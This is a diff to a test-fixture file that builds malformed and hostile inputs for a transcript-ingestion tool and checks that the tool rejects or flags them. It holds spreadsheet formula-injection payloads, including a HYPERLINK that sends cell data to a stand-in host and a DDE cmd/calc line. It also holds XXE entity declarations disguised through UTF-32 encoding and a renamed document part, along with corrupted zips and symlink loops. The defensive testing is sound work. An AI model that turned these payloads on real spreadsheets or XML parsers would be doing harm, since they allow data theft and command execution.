@@ -25,6 +25,7 @@ goes on and its manifest names the broken file and the reason.
 
 from __future__ import annotations
 
+import codecs
 import contextlib
 import io
 import json
@@ -47,6 +48,15 @@ GOOD = ("Interviewer: How did the first session feel for you?\n\n"
         "P1: Honestly, I was nervous. I kept thinking she would judge me for cancelling.\n\n"
         "Interviewer: Mm-hm. And then?\n\n"
         "P1: But she didn't. She just asked what had got in the way, and I felt heard.\n")
+
+#: turns a spreadsheet would run as formulas, and control characters no .xlsx can hold:
+#: the run goes on (the text is data), the control characters are noted and counted
+HOSTILE = ("Interviewer: How did the first session feel for you?\n\n"
+           'P1: =HYPERLINK("http://x?d="&E2&E3,"x") I was nervous.\x0c It was hard.\n\n'
+           "Interviewer: And then?\n\n"
+           "P1: =cmd|' /C calc'!A0 she just asked\x0b what had got in the way.\n\n"
+           "Interviewer: Mm-hm.\n\n"
+           "P1: +1+1 and -2+3 and @SUM(A1) \x1b[31mI felt heard after all.\n")
 
 
 @dataclass
@@ -175,6 +185,129 @@ def utf16_truncated() -> bytes:
     return "\ufeffInterviewer: Hello?\nP1: Hi.\n".encode("utf-16-le")[:-1]
 
 
+# --- damaged archives, made by patching the bytes of a good one ----------------------
+
+def zip_patch(data: bytes, name: str, *, flags: int = 0, method: int | None = None,
+              crc_xor: int = 0, garble: int = 0) -> bytes:
+    """A copy of the zip ``data`` with member ``name`` damaged in both its local header
+    and its central directory entry: ``flags`` OR-ed into the flag bits (1: encrypted),
+    the compression ``method`` replaced, the CRC-32 XOR-ed with ``crc_xor``, and the
+    first ``garble`` bytes of its compressed data overwritten with 0xFF."""
+    buffer = bytearray(data)
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        local = archive.getinfo(name).header_offset
+    raw = name.encode()
+    central = next(i for i in range(len(buffer)) if buffer.startswith(b"PK\x01\x02", i)
+                   and buffer[i + 46:i + 46 + len(raw)] == raw)
+    for base, (flag_at, method_at, crc_at) in ((local, (6, 8, 14)), (central, (8, 10, 16))):
+        flag = int.from_bytes(buffer[base + flag_at:base + flag_at + 2], "little") | flags
+        buffer[base + flag_at:base + flag_at + 2] = flag.to_bytes(2, "little")
+        if method is not None:
+            buffer[base + method_at:base + method_at + 2] = method.to_bytes(2, "little")
+        crc = int.from_bytes(buffer[base + crc_at:base + crc_at + 4], "little") ^ crc_xor
+        buffer[base + crc_at:base + crc_at + 4] = crc.to_bytes(4, "little")
+    start = local + 30 + int.from_bytes(buffer[local + 26:local + 28], "little") + \
+        int.from_bytes(buffer[local + 28:local + 30], "little")
+    buffer[start:start + garble] = b"\xff" * garble
+    return bytes(buffer)
+
+
+def qdpx_damaged(**damage) -> Callable[[], bytes]:
+    """A .qdpx whose project.qde is damaged as :func:`zip_patch` says."""
+    return lambda: zip_patch(qdpx({"project.qde": PROJECT.encode()}), "project.qde", **damage)
+
+
+def nested_codes_project(depth: int) -> bytes:
+    """project.qde with ``depth`` <Code> elements each inside the one before."""
+    codes = "".join(f'<Code guid="c{i}" name="level {i}" isCodable="true">'
+                    for i in range(depth)) + "</Code>" * depth
+    return PROJECT.replace('<Code guid="c1" name="Training" isCodable="true"/>', codes).encode()
+
+
+def docx_xxe_utf32() -> bytes:
+    """A .docx whose document.xml declares entities in UTF-32: no UTF-8 or UTF-16 byte
+    pattern of "<!DOCTYPE" is in it, and lxml reads it all the same."""
+    xml = (f'<?xml version="1.0" encoding="UTF-32"?>\n<!DOCTYPE d [<!ENTITY x "INJECTED">]>\n'
+           f'<w:document {W_NS}><w:body><w:p><w:r><w:t>P1: &x;</w:t></w:r></w:p>'
+           f'</w:body></w:document>')
+    return replace_member(docx_bytes(), "word/document.xml", codecs.BOM_UTF32_LE +
+                          xml.encode("utf-32-le"))
+
+
+def docx_xxe_renamed_part() -> bytes:
+    """A .docx whose main document part is ``word/document.dat``, which [Content_Types].xml
+    and the relationships point Word's parser at, with an entity declaration in it."""
+    xml = (f'<?xml version="1.0"?>\n<!DOCTYPE d [<!ENTITY x "INJECTED">]>\n'
+           f'<w:document {W_NS}><w:body><w:p><w:r><w:t>P1: &x;</w:t></w:r></w:p>'
+           f'</w:body></w:document>').encode()
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(docx_bytes())) as src, \
+            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
+        for info in src.infolist():
+            name, body = info.filename, src.read(info)
+            if name == "word/document.xml":
+                name, body = "word/document.dat", xml
+            elif name == "word/_rels/document.xml.rels":
+                name = "word/_rels/document.dat.rels"
+            elif name in ("[Content_Types].xml", "_rels/.rels"):
+                body = body.replace(b"word/document.xml", b"word/document.dat")
+            dst.writestr(name, body)
+    return out.getvalue()
+
+
+def xlsx_formulas() -> bytes:
+    """Turns in a workbook, two of whose text cells are formulas (saved by a script, so
+    with no saved result, as Excel would show after recalculating)."""
+    import openpyxl
+
+    book = openpyxl.Workbook()
+    sheet = book.active
+    sheet.title = "Turns"
+    sheet.append(["case_id", "turn_index", "speaker", "text"])
+    sheet.append(["X01", 0, "Interviewer", "How did the first session feel for you?"])
+    sheet.append(["X01", 1, "P1", "Honestly, I was nervous, and she did not judge me."])
+    sheet.append(["X01", 2, "P1", '=A2&" said nothing"'])
+    sheet.append(["X01", 3, "Interviewer", "And then?"])
+    sheet.append(["X01", 4, "P1", "=HYPERLINK(\"http://example.invalid\",\"x\")"])
+    sheet.append(["X01", 5, "P1", "She just asked what had got in the way, and I felt heard."])
+    buffer = io.BytesIO()
+    book.save(buffer)
+    return buffer.getvalue()
+
+
+#: a UTF-8 transcript with one line pasted from a Windows-1252 program
+MIXED_ENCODING = ("Interviewer: How was the café where you met?\n".encode() +
+                  "P1: “Quiet,” she said, and the café was empty.\n".encode("cp1252") +
+                  "Interviewer: And then?\nP1: Then we talked, über alles.\n".encode())
+
+#: an .srt whose second cue ends before it starts
+SRT_BACKWARDS = (b"1\n00:00:01,000 --> 00:00:03,000\nInterviewer: And the dreams?\n\n"
+                 b"2\n00:00:09,000 --> 00:00:04,000\nP9: They stopped, mostly they stopped.\n\n"
+                 b"3\n00:00:10,000 --> 00:00:11,000\nInterviewer: Mostly?\n")
+
+
+@dataclass(frozen=True)
+class Symlink:
+    """A symbolic link to ``target`` (relative to its folder), in place of a file."""
+
+    target: str
+
+
+@dataclass(frozen=True)
+class Folder:
+    """An empty folder, in place of a file."""
+
+
+def place(path: Path, content) -> None:
+    """Write a file, a symbolic link or a folder at ``path``."""
+    if isinstance(content, Symlink):
+        path.symlink_to(content.target)
+    elif isinstance(content, Folder):
+        path.mkdir()
+    else:
+        path.write_bytes(_bytes(content))
+
+
 # --- the cases ------------------------------------------------------------------------
 
 def cases() -> list[Case]:
@@ -264,6 +397,10 @@ def cases() -> list[Case]:
         Case("duplicate-case-ids", "two transcripts with the same case id (T01.txt, T01.docx)",
              "note", {"T01.txt": GOOD.encode(), "T01.docx": docx_bytes}, expect="is also in",
              names="T01.txt"),
+        Case("control-characters", ".txt with form feed, vertical tab and escape in the turns, "
+             "and turns that start like spreadsheet formulas", "note",
+             {"ctrl.txt": HOSTILE.encode()}, expect="control character", names="ctrl.txt",
+             transcript=True),
         Case("cases-table-duplicates", "cases.csv with two rows for one case", "error",
              {"cases.csv": b"case_id,modality\ncase01,CBT\ncase01,DBT\n"},
              config={"ingest": {"cases_table": "transcripts/cases.csv"}},
@@ -275,9 +412,9 @@ def cases() -> list[Case]:
              names="cases.csv"),
         Case("cases-table-missing", "ingest.cases_table naming a file that is not there",
              "error", {}, config={"ingest": {"cases_table": "transcripts/nope.csv"}},
-             expect="cases table cannot be read", names="nope.csv"),
+             expect="the cases table", names="nope.csv"),
         Case("missing-transcripts", "ingest.paths naming a folder that is not there", "error",
-             {}, config={"ingest": {"paths": ["no-such-folder"]}}, expect="not found",
+             {}, config={"ingest": {"paths": ["no-such-folder"]}}, expect="no transcript file or folder at",
              names="no-such-folder"),
         Case("config-typo-key", "config with a typo'd top-level key (clustr:)", "error", {},
              config={"clustr": {"n_clusters": 3}}, expect="'clustr' is not a known setting",
@@ -314,7 +451,7 @@ def cases() -> list[Case]:
              expect="inside the run folder", names="deidentify.mapping_file"),
         Case("output-dir-is-a-file", "output_dir naming a file, not a folder", "error",
              {"runs": b"not a folder"}, config={"output_dir": "transcripts/runs"},
-             expect="Not a directory", names="runs"),
+             expect="is a file, not a folder", names="runs"),
         Case("qdpx-xxe", ".qdpx whose project.qde has an external entity (XXE)", "error",
              {"xxe.qdpx": qdpx_xxe}, command="compare", expect="declares a DTD or entities",
              names="xxe.qdpx"),
@@ -330,6 +467,46 @@ def cases() -> list[Case]:
         Case("qdpx-not-zip", ".qdpx that is not a zip archive", "error",
              {"fake.qdpx": b"PK\x03\x04 nope"}, command="compare",
              expect="not a valid .qdpx", names="fake.qdpx"),
+        Case("qdpx-bad-crc", ".qdpx whose project.qde fails its CRC-32 check", "error",
+             {"crc.qdpx": qdpx_damaged(crc_xor=0xFFFF)}, command="compare",
+             expect="checksum does not match", names="crc.qdpx"),
+        Case("qdpx-bad-deflate", ".qdpx whose project.qde has corrupt compressed data", "error",
+             {"deflate.qdpx": qdpx_damaged(garble=20)}, command="compare",
+             expect="cannot be unpacked", names="deflate.qdpx"),
+        Case("qdpx-unknown-method", ".qdpx packed with an unknown compression method (93)",
+             "error", {"method.qdpx": qdpx_damaged(method=93)}, command="compare",
+             expect="compression method 93", names="method.qdpx"),
+        Case("qdpx-encrypted", ".qdpx whose project.qde has the encrypted flag set", "error",
+             {"locked.qdpx": qdpx_damaged(flags=1)}, command="compare",
+             expect="is encrypted", names="locked.qdpx"),
+        Case("qdpx-nested-codes", ".qdpx with 5,000 <Code> elements nested in each other",
+             "error", {"deep.qdpx": lambda: qdpx({"project.qde": nested_codes_project(5000)})},
+             command="compare", expect="levels deep", names="deep.qdpx"),
+        Case("docx-xxe-utf32", ".docx whose document.xml is UTF-32 and declares entities",
+             "error", {"xxe32.docx": docx_xxe_utf32}, expect="declares a DTD or XML entities",
+             names="xxe32.docx", transcript=True),
+        Case("docx-xxe-renamed-part", ".docx whose main part is document.dat, declaring "
+             "entities", "error", {"renamed.docx": docx_xxe_renamed_part},
+             expect="'word/document.dat' declares a DTD", names="renamed.docx",
+             transcript=True),
+        Case("xlsx-formulas", ".xlsx with formulas in text cells", "note",
+             {"formulas.xlsx": xlsx_formulas}, expect="a formula is not spoken words",
+             names="formulas.xlsx", transcript=True),
+        Case("mixed-encoding", ".txt mixing UTF-8 lines and a Windows-1252 line", "note",
+             {"mixed.txt": MIXED_ENCODING}, expect="mixes UTF-8 and Windows-1252",
+             names="mixed.txt:2", transcript=True),
+        Case("srt-backwards-cue", ".srt with a cue that ends before it starts", "note",
+             {"backwards.srt": SRT_BACKWARDS}, expect="ends (00:00:04,000) before it starts",
+             names="backwards.srt:6", transcript=True),
+        Case("dangling-symlink", "a symbolic link to a transcript that is not there", "note",
+             {"gone.txt": Symlink("no-such-transcript.txt")}, expect="broken link",
+             names="gone.txt", transcript=True),
+        Case("symlink-loop", "two symbolic links that point at each other", "note",
+             {"loop-a.txt": Symlink("loop-b.txt"), "loop-b.txt": Symlink("loop-a.txt")},
+             expect="link loop", names="loop-a.txt", transcript=True),
+        Case("folder-named-txt", "a folder named T77.txt among the transcripts", "note",
+             {"T77.txt": Folder()}, expect="is a folder, not a transcript file",
+             names="T77.txt", transcript=True),
     ]
     return out
 
@@ -353,7 +530,7 @@ def write_case(case: Case, root: Path, run_folder: Path | None = None) -> Case:
     folder = root / case.name
     (folder / "transcripts").mkdir(parents=True, exist_ok=True)
     for name, content in case.files.items():
-        (folder / "transcripts" / name).write_bytes(_bytes(content))
+        place(folder / "transcripts" / name, content)
     config_path = folder / "run.yaml"
     if case.command == "compare":
         target = run_folder if run_folder is not None else folder / "no-run"
@@ -420,9 +597,9 @@ def together(root: Path) -> tuple[int, dict, Path]:
         if case.transcript:
             for name, content in case.files.items():
                 target = folder / "transcripts" / name
-                if target.exists():
+                if target.exists() or target.is_symlink():
                     target = target.with_name(f"{case.name}-{name}")
-                target.write_bytes(_bytes(content))
+                place(target, content)
     (folder / "run.yaml").write_text(yaml.safe_dump(base_config(folder)), encoding="utf-8")
     code, _, _ = run_cli(["run", str(folder / "run.yaml"), "--out", str(folder / "out")])
     manifest = json.loads((folder / "out" / "manifest.json").read_text()) if code == 0 else {}
